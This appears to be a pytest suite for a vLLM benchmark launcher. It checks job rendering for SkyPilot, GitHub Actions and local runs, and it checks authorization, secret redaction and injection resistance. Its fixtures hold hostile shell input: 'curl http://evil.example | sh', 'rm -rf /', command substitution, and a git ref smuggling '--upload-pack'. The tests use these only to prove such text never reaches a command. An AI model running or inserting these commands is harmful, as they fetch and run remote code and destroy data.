"""Bench jobs: specs from the config table, safe rendering for each backend (SkyPilot's own
parser when installed), who may launch, the local runner, dispatch through PyGithub to the sandbox."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from sqlalchemy import Engine, select

from bench import BenchRefused, Measure, NamedChange, authorize, build_spec, launch, prepare_for_issue, record
from bench.context import bench_context
from bench.render import github_dispatch, local_commands, skypilot_yaml
from bench.run import run_local
from bench.spec import BenchSpec, Metric, choose_op
from config.errors import ConfigError, ReportError
from config.watch import BenchConfig, BenchMetric, BenchTarget
from storage.db import session_scope
from storage.models import BenchJob, PullRequest
from storage.upsert import upsert_issues
from tests.reports.world import NOW, REPO, issue

SKY_PYTHON = os.environ.get("SCOUT_TEST_SKY_PYTHON")  # an interpreter with skypilot (read before env isolation)
EVIL = "$(touch /tmp/pwned); `id` && rm -rf / ; curl http://evil.example | sh # fused moe rms_norm 'quote\""


BASELINE = (Measure("baseline", "main"),)


def _spec(watch, subsystems=("kernel",), measures=BASELINE, text="", target=None, pull=None):
    return build_spec(repo=REPO, issue_number=7, subsystems=subsystems, taxonomy=watch.taxonomy_for(REPO),
                      bench=watch.bench, measures=measures, issue_text=text, target=target, pull_number=pull)


@pytest.mark.parametrize(("subs", "target", "kind", "needle", "gpu"), [
    (("kernel",), "kernel", "kernel-script", "benchmarks/kernels/benchmark_moe.py", "H100:1"),
    (("quantization",), "quantization", "kernel-script", "benchmarks/kernels/benchmark_quant.py", "H100:1"),
    (("frontend",), "serving", "vllm-bench", "vllm bench serve --model facebook/opt-125m --port 8000", "H100:1"),
    (("scheduler",), "engine", "vllm-bench", "vllm bench latency", "H100:1"),
    (("documentation", "attention"), "attention", "kernel-script", "benchmark_paged_attention.py", "H100:1"),
    (("rocm", "attention"), "attention", "kernel-script", "benchmark_paged_attention.py", "MI300X:1"),
    (("rocm",), "kernel", "kernel-script", "benchmark_moe.py", "MI300X:1"),
    (("tpu",), "engine", "vllm-bench", "vllm bench throughput", "tpu-v6e-8"),
    (("cpu",), "engine", "vllm-bench", "vllm bench latency", None),
    (("ci/build",), "import-time", "cpu-check", "python {script} --module vllm", None),
    ((), "engine", "vllm-bench", "vllm bench latency", "H100:1"),
])
def test_target_and_hardware_from_the_config(watch, subs, target, kind, needle, gpu) -> None:
    spec = _spec(watch, subs)
    assert (spec.target, spec.kind, spec.gpu) == (target, kind, gpu)
    assert any(needle in c for c in spec.commands)
    assert len(spec.metrics) == len(spec.commands) and all(m.unit and m.measures for m in spec.metrics)
    assert spec.subsystems == subs and spec.repetitions == 3


def test_vendor_hardware_brings_the_vendor_build(watch) -> None:
    rocm, tpu, cpu = _spec(watch, ("rocm",)), _spec(watch, ("tpu",)), _spec(watch, ("cpu",))
    assert any("VLLM_TARGET_DEVICE=rocm" in c for c in rocm.setup)
    assert any("VLLM_TARGET_DEVICE=tpu" in c for c in tpu.setup)
    assert cpu.cpus == "32+" and any("VLLM_TARGET_DEVICE=cpu" in c for c in cpu.setup)
    assert yaml.safe_load(skypilot_yaml(cpu))["resources"] == {"cpus": "32+"}
    assert yaml.safe_load(skypilot_yaml(rocm))["resources"] == {"accelerators": "MI300X:1"}
    both = _spec(watch, ("rocm", "tpu"))
    assert both.gpu == "MI300X:1" and both.notes == ("also about tpu: this job runs on MI300X:1 only",)


def test_no_gpu_for_documentation_and_a_cpu_check_for_ci(watch) -> None:
    docs = _spec(watch, ("documentation",))
    assert not docs.needed and docs.gpu is None and docs.kind == "none" and docs.commands == ()
    assert docs.no_gpu_reason == "a documentation change: no GPU can measure it"
    ci = _spec(watch, ("ci/build", "documentation"))
    assert ci.gpu is None and ci.cpus == "8+" and ci.target == "import-time" and ci.no_gpu_reason
    assert "accelerators" not in yaml.safe_load(skypilot_yaml(ci))["resources"]
    with pytest.raises(ReportError, match="no benchmark needed"):
        skypilot_yaml(docs)


def test_unknown_target_and_bad_templates_are_refused(watch) -> None:
    with pytest.raises(ReportError, match="unknown bench target"):
        _spec(watch, target="nope")
    metric = BenchMetric(key="x", measures="x", unit="s")
    bad = BenchConfig(targets={"t": BenchTarget(commands=("run {title}",), metrics=(metric,))}, default_target="t")
    with pytest.raises(ConfigError, match="unknown placeholder"):
        build_spec(repo=REPO, issue_number=1, subsystems=(), taxonomy=watch.taxonomy_for(REPO), bench=bad,
                   measures=(Measure("baseline", "main"),))
    with pytest.raises(ReportError, match="not a safe git ref"):
        Measure("after", "--upload-pack=touch /tmp/x")
    with pytest.raises(ValueError, match="model id"):
        BenchTarget(model="x; rm -rf /")
    with pytest.raises(ValueError, match="one entry in `metrics` per command"):
        BenchTarget(commands=("a {result}", "b {result}"), metrics=(metric,))
    with pytest.raises(ReportError, match="not a GitHub repository URL"):
        Measure("after", "main", remote="https://evil.example/x; rm -rf /")


def test_op_choice_reads_text_but_only_picks_a_fixed_name(watch) -> None:
    allowed = watch.bench.targets["torch-op"].ops
    assert choose_op("RMSNorm is slow for hidden 8192", "kernel", allowed) == "rms_norm"
    assert choose_op("Fused MoE kernel: topk routing", "v1", allowed) == "fused_moe"
    assert choose_op("nothing specific", "attention", allowed) == "attention"
    assert choose_op(EVIL, "kernel", allowed) in allowed


def test_issue_text_never_reaches_a_command(watch) -> None:
    for target in (None, "torch-op"):
        spec = _spec(watch, text=EVIL, target=target,
                     measures=(Measure("before", "main"), Measure("after", "ab" * 20, pull_number=20)), pull=20)
        rendered = [skypilot_yaml(spec), json.dumps(github_dispatch(spec, "bench.yml", "main").to_dict()),
                    json.dumps([c.argv for c in local_commands(spec)]), json.dumps(spec.to_dict())]
        for text in rendered:
            for fragment in ("touch /tmp/pwned", "rm -rf", "evil.example", "`id`", "quote"):
                assert fragment not in text


def test_skypilot_yaml_structure(watch) -> None:
    """The serving job starts `vllm serve`, waits for /health, runs `vllm bench serve` three times
    per commit, stops the server; every command writes a JSON result into the results folder."""
    spec = _spec(watch, ("frontend",), (Measure("before", "main"), Measure("after", "ab" * 20, pull_number=21)),
                 pull=21)
    doc = yaml.safe_load(skypilot_yaml(spec))
    assert doc["name"] == "scout-vllm-7-serving"
    assert doc["resources"] == {"accelerators": "H100:1"}
    assert doc["envs"]["BENCH_MODEL"] == "facebook/opt-125m" and not any(k.startswith("SCOUT_") for k in doc["envs"])
    run = doc["run"]
    assert run.index("git checkout --quiet --force origin/main") < run.index("git fetch --quiet origin pull/21/head")
    for label in ("before", "after"):
        serve = run.index(f"vllm serve facebook/opt-125m --port 8000 > $HOME/scout-results/server-{label}.log")
        health = run.index("curl -sf http://127.0.0.1:8000/health", serve)
        bench = run.index(f"--result-filename $HOME/scout-results/{label}-1-1.json", health)
        assert f"--result-filename $HOME/scout-results/{label}-1-3.json" in run
        assert run.index('kill "$server_pid"', bench) > bench
    assert run.count("VLLM_USE_PRECOMPILED=1 pip install -e .") == 2
    assert run.count("timeout 1800 vllm bench serve") == 6
    kernel = yaml.safe_load(skypilot_yaml(_spec(watch, ("attention",))))["run"]
    assert ("python $HOME/scout-bench/capture.py --json $HOME/scout-results/baseline-1-1.json -- python "
            "benchmarks/kernels/benchmark_paged_attention.py") in kernel
    torch_doc = yaml.safe_load(skypilot_yaml(_spec(watch, target="torch-op", text="rms norm")))
    assert list(torch_doc["file_mounts"]) == ["~/scout-bench/torch_op.py"]
    assert Path(torch_doc["file_mounts"]["~/scout-bench/torch_op.py"]).is_file()
    assert ("python $HOME/scout-bench/torch_op.py --op rms_norm --json $HOME/scout-results/baseline-1-1.json"
            in torch_doc["run"])


def test_fork_branch_is_fetched_from_the_fork(watch) -> None:
    spec = _spec(watch, ("kernel",), (Measure("before", "main"),
                                      Measure("after", "faster-moe", remote="https://github.com/bob/vllm")))
    run = yaml.safe_load(skypilot_yaml(spec))["run"]
    assert "git fetch --quiet https://github.com/bob/vllm faster-moe\ngit checkout --quiet --force FETCH_HEAD" in run


_SKY_CHECK = """
import sys, sky
for path in sys.argv[1:]:
    try:
        sky.Task.from_yaml(path)
        print("OK", path)
    except Exception as exc:
        print("REFUSED", path, type(exc).__name__, str(exc).replace(chr(10), " "))
"""


def _sky_verdicts(paths: list[Path]) -> dict[str, str]:
    """SkyPilot's parser on each YAML, in one interpreter (importing sky takes seconds)."""
    p = subprocess.run([SKY_PYTHON or sys.executable, "-c", _SKY_CHECK, *map(str, paths)], capture_output=True,
                       text=True, timeout=600)
    out = p.stdout
    verdicts = {}
    for line in out.splitlines():
        word, path, *rest = line.split(" ", 2)
        verdicts[path] = word + (" " + rest[0] if rest else "")
    return verdicts


@pytest.mark.slow
def test_skypilot_parser_accepts_every_target(world: Engine, watch, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Acceptance: SkyPilot's own parser accepts the YAML of every target, on every vendor's
    hardware, before/after with a server; a broken key is refused; the stored YAML's header says
    "validated" because the parser accepted it while it was rendered."""
    if not SKY_PYTHON:
        pytest.importorskip("sky", reason="SkyPilot is not installed (pip install 'oss-scout[skypilot]', "
                                          "or set SCOUT_TEST_SKY_PYTHON to an interpreter that has it)")
        monkeypatch.delenv("SCOUT_SKY_PYTHON", raising=False)
    else:
        monkeypatch.setenv("SCOUT_SKY_PYTHON", SKY_PYTHON)
    specs = [_spec(watch, target=t) for t in sorted(watch.bench.targets)]
    specs += [_spec(watch, subs) for subs in (("rocm",), ("tpu",), ("cpu",), ("ci/build",))]
    specs.append(_spec(watch, ("frontend",), (Measure("before", "main"), Measure("after", "ab" * 20, pull_number=3))))
    paths = []
    for i, spec in enumerate(specs):
        paths.append(tmp_path / f"{i}-{spec.name}.yaml")
        paths[-1].write_text(skypilot_yaml(spec))
    with session_scope(world) as s:
        kernel = prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path)
    assert "(validated: sky.Task.from_yaml (SkyPilot" in Path(kernel.link).read_text().splitlines()[0]
    broken = tmp_path / "broken.yaml"
    broken.write_text(Path(kernel.link).read_text().replace("accelerators:", "acceleratorz:"))
    verdicts = _sky_verdicts([*paths, broken])
    for path, spec in zip(paths, specs, strict=True):
        assert verdicts[str(path)] == "OK", f"{spec.target} on {spec.gpu}: {verdicts[str(path)]}"
    assert verdicts[str(broken)].startswith("REFUSED") and "acceleratorz" in verdicts[str(broken)]


def test_header_says_validated_only_when_skypilot_accepted_it(world: Engine, watch, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    import bench.validate as validate

    fake = tmp_path / "fake-sky-python"  # an interpreter stand-in that refuses everything
    fake.write_text("#!/bin/sh\necho 'ValueError: Invalid task YAML' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("SCOUT_SKY_PYTHON", str(fake))
    with session_scope(world) as s, pytest.raises(ReportError, match="SkyPilot's parser refused"):
        prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path)
    monkeypatch.delenv("SCOUT_SKY_PYTHON")
    monkeypatch.setattr(validate, "_sky_version", lambda: None)  # no SkyPilot here
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path)
    first = Path(job.link).read_text().splitlines()[0]
    assert "NOT validated" in first and "(validated" not in first


def test_workflow_is_shipped_and_takes_inputs_from_the_environment(watch, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from cli import app

    written = CliRunner().invoke(app, ["bench-workflow", "--out", str(tmp_path)])  # as an operator installs it
    assert written.exit_code == 0, written.output
    assert sorted(p.name for p in (tmp_path / ".github" / "scout").iterdir())
    doc = yaml.safe_load((tmp_path / ".github" / "workflows" / watch.bench.workflow).read_text())
    inputs = doc[True]["workflow_dispatch"]["inputs"]  # YAML 1.1 reads the bare `on:` key as a boolean
    spec = _spec(watch, ("frontend",), (Measure("before", "main"), Measure("after", "ab" * 20, pull_number=3)))
    d = github_dispatch(spec, watch.bench.workflow, "main")
    assert set(d.inputs) == set(inputs) and len(inputs) <= 10
    job = json.loads(d.inputs["job"])
    assert job["server"] == "vllm serve facebook/opt-125m --port 8000" and job["port"] == 8000
    assert [m["label"] for m in job["measures"]] == ["before", "after"] and job["measures"][1]["pull"] == 3
    assert len(job["measures"][0]["runs"]) == 3 and job["measures"][0]["runs"][2]["result"] == "before-1-3.json"
    assert d.inputs["runner"] == "gpu-h100"
    assert doc["jobs"]["bench"]["runs-on"] == ["self-hosted", "${{ inputs.runner }}"]
    for step in doc["jobs"]["bench"]["steps"]:
        assert "${{" not in step.get("run", "")  # inputs only through env: no expression splicing into a script
    bench_step = next(st for st in doc["jobs"]["bench"]["steps"] if st.get("name") == "bench")
    assert bench_step["env"]["BENCH_JOB"] == "${{ inputs.job }}"
    assert "/health" in bench_step["run"] and "GITHUB_TOKEN" not in bench_step["run"]
    assert watch.bench.workflow == "scout-bench.yml"


# ----------------------------------------------------------------------------- who may launch or name a PR


def test_authorize() -> None:
    cfg = BenchConfig(allowed_users=("Alice",), allowed_roles=("maintainer",))
    assert authorize(cfg, "alice") == "alice"
    assert authorize(cfg, "bob", roles=["Maintainer"]) == "bob"
    assert authorize(cfg, "carol", extra_users=["carol"]) == "carol"
    for user, roles in ((None, ()), ("", ()), ("mallory", ("contributor",))):
        with pytest.raises(BenchRefused):
            authorize(cfg, user, roles)
    with pytest.raises(BenchRefused, match=r"not in bench\.allowed_users"):
        authorize(BenchConfig(allowed_roles=()), "mallory", ["maintainer"])


def test_launch_is_refused_before_anything_runs(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 2, watch, "local", tmp_path, target="torch-op")
    with pytest.raises(BenchRefused):
        launch(job, watch, user="mallory", out_dir=tmp_path)
    assert not (tmp_path / "bench").exists() or not any((tmp_path / "bench").iterdir())


def test_untrusted_pr_is_measured_only_when_named(world: Engine, watch, tmp_path: Path) -> None:
    """#9 is closed by open PR #20 from a CONTRIBUTOR: its job measures main alone and says why;
    a caller with the bench role names it and gets main against its head; a caller without is refused."""
    with session_scope(world) as s:
        assert bench_context(s, REPO, 9).pull is not None
        unasked = prepare_for_issue(s, REPO, 9, watch, "skypilot", tmp_path)
        with pytest.raises(BenchRefused):
            prepare_for_issue(s, REPO, 9, watch, "skypilot", tmp_path, requested_by="mallory",
                              named=NamedChange(pull=20), roles=("contributor",))
        named = prepare_for_issue(s, REPO, 9, watch, "skypilot", tmp_path, requested_by="gina",
                                  named=NamedChange(pull=20), roles=("maintainer",))
    assert [(m.label, m.ref) for m in unasked.spec.measures] == [("baseline", "main")]
    assert unasked.spec.pull_number is None and "0020" not in unasked.rendered
    assert any("PR #20 by zed (CONTRIBUTOR) is not measured" in n for n in unasked.spec.notes)
    assert [(m.label, m.ref, m.pull_number) for m in named.spec.measures] == [
        ("before", "main", None), ("after", "0020" + "ab" * 18, 20)]
    assert named.spec.notes == ("PR #20 by zed measured because gina named it",)
    assert "git fetch --quiet origin pull/20/head" in named.rendered


def test_trusted_pr_is_measured_unasked(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        s.scalars(select(PullRequest).where(PullRequest.number == 20)).one().author_association = "MEMBER"
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 9, watch, "skypilot", tmp_path)
        own = prepare_for_issue(s, REPO, 21, watch, "skypilot", tmp_path)  # a CONTRIBUTOR's own PR
    assert [(m.label, m.ref) for m in job.spec.measures] == [("before", "main"), ("after", "0020" + "ab" * 18)]
    assert job.spec.pull_number == 20
    assert [(m.label, m.ref) for m in own.spec.measures] == [("baseline", "main")]


def test_a_named_branch_of_a_fork(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path, requested_by="gina", roles=("maintainer",),
                                named=NamedChange(ref="faster-moe", fork="https://github.com/bob/vllm"))
    assert [(m.label, m.ref, m.remote) for m in job.spec.measures] == [
        ("before", "main", None), ("after", "faster-moe", "https://github.com/bob/vllm")]
    with pytest.raises(ReportError, match="--fork needs --ref"):
        NamedChange(fork="https://github.com/bob/vllm")


def test_documentation_issue_gets_no_benchmark(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 6, watch, "skypilot", tmp_path)  # "[Doc] fix typo in README"
    assert job.status == "not-needed" and job.link == "" and job.spec.gpu is None
    assert job.rendered == "no benchmark needed: a documentation change: no GPU can measure it\n"
    assert job.bench_link.describe() == "no benchmark needed: a documentation change: no GPU can measure it"
    assert not (tmp_path / "bench").exists()
    with pytest.raises(ReportError, match="nothing to launch"):
        launch(job, watch, user="gina", roles=("maintainer",), out_dir=tmp_path)


# ----------------------------------------------------------------------------- local runner


def _local(commands: tuple[str, ...], timeout_minutes: int = 1, repetitions: int = 1, server: str | None = None,
           port: int | None = None, metrics: tuple[Metric, ...] = ()) -> BenchSpec:
    metrics = metrics or tuple(Metric("median_ms", "t", "ms", "lower") for _ in commands)
    return BenchSpec(repo=REPO, issue_number=1, subsystem="kernel", target="t", kind="kernel-script",
                     model="m", gpu="H100:1", timeout_minutes=timeout_minutes, setup=(), commands=commands,
                     measures=(Measure("baseline", "main"),), metrics=metrics, repetitions=repetitions,
                     server=server, port=port)


def test_local_runner_captures_json_results(tmp_path: Path) -> None:
    spec = _local((
        "python -c \"import json; json.dump({'median_ms': 1.25}, open('{result}', 'w'))\"",
        "FOO=bar python -c \"import json, os; print('noise'); print(json.dumps({'foo': os.environ['FOO']}))\"",
        "python -c \"import sys; sys.exit(3)\"",
    ), repetitions=2)
    out = run_local(spec, tmp_path / "job")
    steps = out.result["steps"]
    assert [s["returncode"] for s in steps] == [0, 0, 3] * 2
    assert [s["result_file"] for s in steps[:3]] == ["local-1-1.json", "local-2-1.json", "local-3-1.json"]
    assert steps[0]["result"] == {"median_ms": 1.25} and steps[3]["result_file"] == "local-1-2.json"
    assert steps[1]["result"] == {"foo": "bar"}
    assert steps[0]["argv"][0] == sys.executable
    assert out.status == "failed"
    assert out.result["summary"][0]["samples"][0]["values"] == [1.25, 1.25]
    assert out.result["verdict"] == "median_ms: local 1.25 ms"
    assert json.loads((tmp_path / "job" / "result.json").read_text())["status"] == "failed"


def test_runner_environment_holds_no_secret_and_output_is_redacted(tmp_path: Path) -> None:
    """The benchmark sees PATH/HOME and the like, never SCOUT_* settings or tokens; what it prints
    is stored redacted even when it finds a secret some other way."""
    parent = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "SCOUT_GITHUB_TOKEN": "ghp_" + "s3cr3t" * 6,
              "SCOUT_DATABASE_URL": "postgresql://scout:hunter2pw@db/scout", "SCOUT_DISCORD_TOKEN": "discord-xyz-123",
              "HF_TOKEN": "hf_" + "x" * 30, "AWS_SECRET_ACCESS_KEY": "abcdefgh12345", "CUDA_VISIBLE_DEVICES": "0"}
    leak = "discord-xyz-123 postgresql://scout:hunter2pw@db/scout ghp_" + "s3cr3t" * 6 + " mysql://u:otherpw@h/d"
    spec = _local((
        "python -c \"import json, os; print(json.dumps({'env': sorted(os.environ)}))\"",
        f"python -c \"print('{leak}')\"",
    ))
    out = run_local(spec, tmp_path / "job", environ=parent)
    seen = out.result["steps"][0]["result"]["env"]
    assert not [k for k in seen if k.startswith("SCOUT_") or "TOKEN" in k or "SECRET" in k]
    assert {"PATH", "HOME", "CUDA_VISIBLE_DEVICES"} <= set(seen)
    stored = json.dumps(out.result) + (tmp_path / "job" / "result.json").read_text()
    for secret in ("discord-xyz-123", "hunter2pw", "s3cr3t", "otherpw"):
        assert secret not in stored
    assert out.result["steps"][1]["stdout_tail"] == "[redacted] [redacted] [redacted] mysql://u:[redacted]@h/d\n"


SERVER = """
import http.server, sys, time
time.sleep(0.5)  # a server is not ready at once
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200 if self.path == "/health" else 404); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""
CLIENT = """
import json, sys, time, urllib.request
t0 = time.perf_counter(); urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/health").read()
json.dump({"median_ms": (time.perf_counter() - t0) * 1000}, open(sys.argv[2], "w"))
"""


def test_local_runner_starts_the_server_waits_for_health_and_stops_it(tmp_path: Path) -> None:
    import socket

    (tmp_path / "server.py").write_text(SERVER)
    (tmp_path / "client.py").write_text(CLIENT)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    spec = _local((f"python {tmp_path / 'client.py'} {port} {{result}}",), repetitions=3,
                  server=f"python {tmp_path / 'server.py'} {port}", port=port)
    out = run_local(spec, tmp_path / "job")
    assert out.status == "succeeded", out.result
    server = out.result["steps"][0]
    assert server["label"] == "server" and server["ready_after_s"] >= 0.4
    assert [s["returncode"] for s in out.result["steps"][1:]] == [0, 0, 0]
    with pytest.raises(OSError):  # stopped after the commands
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    dead = _local(("python -c \"print(1)\"",), server="python -c \"import sys; sys.exit(4)\"", port=port)
    out = run_local(dead, tmp_path / "dead")
    assert out.status == "failed" and "exited with 4 before /health answered" in out.result["steps"][0]["error"]
    assert len(out.result["steps"]) == 1  # no benchmark against a server that never came up


def test_local_runner_kills_at_the_deadline(tmp_path: Path) -> None:
    spec = _local(("python -c \"import time; time.sleep(60)\"", "python -c \"print(1)\""))
    out = run_local(spec, tmp_path / "job", timeout_s=1.0)
    assert out.status == "timeout"
    assert out.result["steps"][0]["timed_out"] is True and out.result["steps"][0]["seconds"] < 10
    assert out.result["steps"][1]["skipped"] == "timeout"


def test_local_runner_reports_a_missing_program(tmp_path: Path) -> None:
    out = run_local(_local(("no-such-program-xyz --flag",)), tmp_path / "job")
    assert out.status == "failed" and "cannot start no-such-program-xyz" in out.result["steps"][0]["error"]


def test_local_torch_op_job_end_to_end(world: Engine, watch, tmp_path: Path) -> None:
    """The torch-op target through the same runner: times rms_norm where PyTorch is installed (a
    GPU host), and stores a clear error where it is not; either way the JSON result is stored."""
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 2, watch, "local", tmp_path, target="torch-op", requested_by="alice")
    assert job.spec.op == "rms_norm"  # "[Kernel] rms_norm crashes on odd hidden size"
    outcome = launch(job, watch, user="alice", roles=("maintainer",), out_dir=tmp_path)
    with session_scope(world) as s:
        stored = record(s, job.id, outcome, "alice")
    result = stored.result["steps"][0]["result"]
    assert result["op"] == "rms_norm" and len(stored.result["steps"]) == 3
    assert stored.status in ("succeeded", "failed") and stored.link.endswith("result.json")
    if stored.status == "succeeded":
        assert result["impls"]["reference"]["median_ms"] > 0
        assert stored.verdict.startswith("best.median_ms: baseline ")
    else:
        assert "PyTorch is not installed" in result["error"]
    with session_scope(world) as s:
        row = s.scalars(select(BenchJob).where(BenchJob.id == job.id)).one()
        assert row.finished_at is not None and row.requested_by == "alice" and row.backend == "local"
        assert row.verdict == stored.verdict


def test_hostile_issue_end_to_end(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        upsert_issues(s, 1, [issue(99, EVIL, "xena", NOW, body=EVIL)])
    with session_scope(world) as s:
        jobs = [prepare_for_issue(s, REPO, 99, watch, b, tmp_path) for b in ("skypilot", "github-actions", "local")]
    for job in jobs:
        assert "pwned" not in job.rendered and "evil.example" not in job.rendered


# ----------------------------------------------------------------------------- GitHub Actions via the sandbox


def test_dispatch_through_the_shared_client_to_the_sandbox(tmp_path: Path) -> None:
    from sandbox.github import GitHubSandbox, serve_in_thread

    if not hasattr(GitHubSandbox, "record_dispatch"):
        pytest.skip("the GitHub sandbox does not serve workflow dispatches yet")
    from bench.run import dispatch_github
    from config import load_watch_config

    watch = load_watch_config()
    spec = build_spec(repo="acme/engine", issue_number=1, subsystems=("kernel",), taxonomy=watch.taxonomy_for(REPO),
                      bench=watch.bench, measures=(Measure("baseline", "main"),))
    d = github_dispatch(spec, "bench.yml", "main")
    data = Path(__file__).resolve().parents[1] / "data" / "mini_dataset"
    with serve_in_thread(data) as sb:
        out = dispatch_github(d, "acme/engine", sb.url, "test-token")
        posted = [r for r in sb.requests if r.get("method") == "POST"]
        assert sb.dispatches and sb.dispatches[-1]["inputs"] == d.inputs
        assert sb.dispatches[-1]["head_branch"] == "main"
        assert out.status == "launched" and out.link == sb.dispatches[-1]["html_url"]
        assert posted and posted[-1]["path"].endswith("/repos/acme/engine/actions/workflows/bench.yml/dispatches")
        with pytest.raises(ReportError, match="needs SCOUT_GITHUB_TOKEN"):
            dispatch_github(d, "acme/engine", sb.url, None)
        with pytest.raises(ReportError, match="GitHub refused or did not answer"):
            dispatch_github(d, "acme/no-such-repo", sb.url, "test-token")


def test_skypilot_launch_is_refused_where_skypilot_is_not_configured(world: Engine, watch, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no `sky` here
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path)
    with pytest.raises(ReportError, match=r"`sky` is not installed.*task YAML is at"):
        launch(job, watch, user="alice", roles=("maintainer",), out_dir=tmp_path)
